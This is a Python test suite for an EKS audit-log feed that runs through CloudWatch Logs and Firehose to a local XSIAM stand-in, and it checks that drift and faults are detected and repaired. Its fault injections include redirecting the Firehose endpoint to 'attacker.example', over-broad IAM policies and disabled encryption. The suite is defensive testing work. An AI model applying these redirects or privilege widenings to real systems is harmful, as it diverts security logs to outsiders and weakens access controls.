"""The EKS feed end to end on the local stack: CloudWatch Logs -> Firehose -> the XSIAM stand-in."""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Callable

import pytest
from conftest import Stack
from test_verify import status_of
from test_xsiam_standin import eventually

from flows.provision import provision_feeds
from flows.verify import FIREHOSE_FEED_CHECKS, verify_feeds
from socfeeds.report import Finding, Status
from socfeeds.settings import FirehoseFeed
from tasks.firehose import MissingToken, ensure_cluster_logging, ensure_delivery_stream, ensure_subscription

FEED = "eks-control-plane"


def eks(stack: Stack) -> FirehoseFeed:
    return stack.settings.firehose_feeds[FEED]


def provision(stack: Stack) -> None:
    aws, settings = stack.aws, stack.settings
    for step in (ensure_cluster_logging, ensure_delivery_stream, ensure_subscription):
        step.fn(aws, settings, FEED, False)


def checks(stack: Stack) -> list[Finding]:
    return [f for check in FIREHOSE_FEED_CHECKS for f in check.fn(stack.aws, stack.settings, FEED)]


def put_audit_event(stack: Stack, marker: str) -> None:
    logs, feed = stack.client("logs"), eks(stack)
    stream = f"kube-apiserver-audit-{uuid.uuid4().hex[:8]}"
    logs.create_log_stream(logGroupName=feed.log_group, logStreamName=stream)
    logs.put_log_events(logGroupName=feed.log_group, logStreamName=stream, logEvents=[
        {"timestamp": int(time.time() * 1000), "message": json.dumps({"kind": "Event", "auditID": marker})}])


def test_a_control_plane_event_reaches_xsiam(stack: Stack) -> None:
    provision(stack)
    assert [f for f in checks(stack) if f.status is Status.FAIL] == []
    marker = uuid.uuid4().hex
    put_audit_event(stack, marker)
    [event] = eventually("event in amazon_eks_raw", lambda: [
        e for e in stack.xsiam.events("amazon_eks_raw") if marker in json.dumps(e["raw"])])
    assert event["source"] == eks(stack).log_group and event["origin"].startswith("kube-apiserver-audit-")
    assert event["raw"]["auditID"] == marker


def test_wrong_token_sends_records_to_the_backup_and_verify_fails(stack: Stack) -> None:
    provision(stack)
    feed = eks(stack)
    stack.client("secretsmanager").put_secret_value(SecretId=feed.token_secret_name,
                                                    SecretString=json.dumps({"api_key": "revoked-token"}))
    marker = uuid.uuid4().hex
    put_audit_event(stack, marker)
    s3 = stack.client("s3")

    def backed_up() -> list[str]:
        keys = [o["Key"] for o in s3.list_objects_v2(Bucket=feed.error_bucket).get("Contents", [])]
        return [k for k in keys if marker.encode() in _decoded(s3.get_object(Bucket=feed.error_bucket, Key=k))]

    [key] = eventually("backup object with the marker", backed_up, deadline_s=30)
    assert key.startswith("http-endpoint-failed/")
    failed = [f for f in checks(stack) if f.check == "failed deliveries"]
    assert [f.status for f in failed] == [Status.FAIL] and key in failed[0].detail
    assert "wrong token" in failed[0].fix
    assert not [e for e in stack.xsiam.events("amazon_eks_raw") if marker in json.dumps(e["raw"])]


def _decoded(obj: dict[str, object]) -> bytes:
    """A backup object: GZIP lines of {rawData: base64(gzip(CloudWatch payload))}."""
    import base64
    import gzip

    body = obj["Body"].read()  # type: ignore[attr-defined]
    text = gzip.decompress(body) if body[:2] == b"\x1f\x8b" else body
    return b"".join(gzip.decompress(base64.b64decode(json.loads(line)["rawData"])) for line in text.splitlines())


def disable_audit_logging(stack: Stack) -> None:
    stack.client("eks").update_cluster_config(name=eks(stack).cluster_name, logging={"clusterLogging": [
        {"types": ["api", "authenticator", "controllerManager", "scheduler"], "enabled": True},
        {"types": ["audit"], "enabled": False}]})


def remove_filter(stack: Stack) -> None:
    feed = eks(stack)
    stack.client("logs").delete_subscription_filter(logGroupName=feed.log_group, filterName=feed.subscription_filter)


def _update_destination(stack: Stack, update: dict[str, object]) -> None:
    firehose, name = stack.client("firehose"), eks(stack).delivery_stream
    stream = firehose.describe_delivery_stream(DeliveryStreamName=name)["DeliveryStreamDescription"]
    firehose.update_destination(DeliveryStreamName=name, CurrentDeliveryStreamVersionId=stream["VersionId"],
                                DestinationId=stream["Destinations"][0]["DestinationId"],
                                HttpEndpointDestinationUpdate=update)


def change_url(stack: Stack) -> None:
    _update_destination(stack, {"EndpointConfiguration": {"Url": "https://attacker.example/logs", "Name": "x"}})


def turn_off_gzip(stack: Stack) -> None:
    _update_destination(stack, {"RequestConfiguration": {"ContentEncoding": "NONE"}})


def widen_firehose_role(stack: Stack) -> None:
    wide = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
    stack.client("iam").put_role_policy(RoleName=eks(stack).firehose_role, PolicyName="debug",
                                        PolicyDocument=json.dumps(wide))


def widen_logs_role_trust(stack: Stack) -> None:
    stack.client("iam").update_assume_role_policy(RoleName=eks(stack).logs_role, PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "logs.amazonaws.com"},
                                                 "Action": "sts:AssumeRole"}]}))


def stop_stream_encryption(stack: Stack) -> None:
    stack.client("firehose").stop_delivery_stream_encryption(DeliveryStreamName=eks(stack).delivery_stream)


def keep_error_logs_forever(stack: Stack) -> None:
    stack.client("logs").delete_retention_policy(logGroupName=eks(stack).error_log_group)


def drop_source_account_from_firehose_trust(stack: Stack) -> None:
    stack.client("iam").update_assume_role_policy(RoleName=eks(stack).firehose_role, PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "firehose.amazonaws.com"},
                                                 "Action": "sts:AssumeRole"}]}))


FAULTS: list[tuple[Callable[[Stack], None], str, str]] = [
    (disable_audit_logging, "eks:", "control-plane logging"),
    (remove_filter, "logs:", "subscription filter"),
    (change_url, "firehose:", "endpoint url"),
    (turn_off_gzip, "firehose:", "content encoding"),
    (widen_firehose_role, "firehose:", "role {firehose_role} permissions"),
    (widen_logs_role_trust, "logs:", "role {logs_role} trust"),
    (stop_stream_encryption, "firehose:", "encryption at rest"),
    (keep_error_logs_forever, "firehose:", "error log retention"),
    (drop_source_account_from_firehose_trust, "firehose:", "role {firehose_role} trust"),
]


@pytest.mark.parametrize(("fault", "resource", "check"), FAULTS, ids=[f.__name__ for f, _, _ in FAULTS])
def test_fault_fails_its_check_and_provision_repairs_it(stack: Stack, fault: Callable[[Stack], None],
                                                        resource: str, check: str) -> None:
    provision(stack)
    check = check.format(firehose_role=eks(stack).firehose_role, logs_role=eks(stack).logs_role)
    fault(stack)
    broken = checks(stack)
    assert status_of(broken, resource, check) is Status.FAIL
    assert all(f.fix for f in broken if f.status is Status.FAIL)
    if fault is widen_firehose_role:  # provision owns only its inline policy; a person removes extras
        stack.client("iam").delete_role_policy(RoleName=eks(stack).firehose_role, PolicyName="debug")
    provision(stack)
    assert [f for f in checks(stack) if f.status is Status.FAIL] == []


def test_missing_token_secret_fails_verify_and_stops_provision_with_the_fix(stack: Stack) -> None:
    provision(stack)
    feed = eks(stack)
    secrets = stack.client("secretsmanager")
    secrets.delete_secret(SecretId=feed.token_secret_name, ForceDeleteWithoutRecovery=True)
    assert status_of(checks(stack), "firehose:", "endpoint token") is Status.FAIL
    with pytest.raises(MissingToken, match=f"secret {feed.token_secret_name} does not exist. Fix: store"):
        ensure_delivery_stream.fn(stack.aws, stack.settings, FEED, False)
    stack.local.put_token_secret(feed.token_secret_name, stack.xsiam.firehose_token)
    provision(stack)
    assert [f for f in checks(stack) if f.status is Status.FAIL] == []


def test_buffering_change_updates_the_stream_in_place(stack: Stack) -> None:
    provision(stack)
    firehose, name = stack.client("firehose"), eks(stack).delivery_stream
    before = firehose.describe_delivery_stream(DeliveryStreamName=name)["DeliveryStreamDescription"]
    stack.update(firehose_feeds={FEED: {**stack.values["firehose_feeds"][FEED], "buffering_mib": 5}})
    changes = ensure_delivery_stream.fn(stack.aws, stack.settings, FEED, False)
    assert [(c.action, c.detail) for c in changes] == [("update delivery stream", "in place: BufferingHints")]
    after = firehose.describe_delivery_stream(DeliveryStreamName=name)["DeliveryStreamDescription"]
    assert after["CreateTimestamp"] == before["CreateTimestamp"] and int(after["VersionId"]) == int(
        before["VersionId"]) + 1
    hints = after["Destinations"][0]["HttpEndpointDestinationDescription"]["BufferingHints"]
    assert hints == {"SizeInMBs": 5, "IntervalInSeconds": 60}
    assert ensure_delivery_stream.fn(stack.aws, stack.settings, FEED, False) == []


def test_the_token_never_leaves_the_secret(stack: Stack, prefect_logs: pytest.LogCaptureFixture) -> None:
    token = stack.xsiam.firehose_token
    changes = provision_feeds(feeds=[FEED])
    findings = verify_feeds(feeds=[FEED])
    state = verify_feeds(feeds=[FEED], return_state=True)
    from prefect.client.orchestration import get_client

    with get_client(sync_client=True) as client:
        artifacts = [a.data for a in client.read_artifacts()]
        flow_runs = client.read_flow_runs()
    texts = [prefect_logs.text, repr(changes), repr(findings), json.dumps(artifacts, default=str),
             repr(state), json.dumps([r.parameters for r in flow_runs], default=str)]
    assert changes and findings and all(token not in text for text in texts)
    assert "api_key" in prefect_logs.text or any("api_key" in f.detail for f in findings)
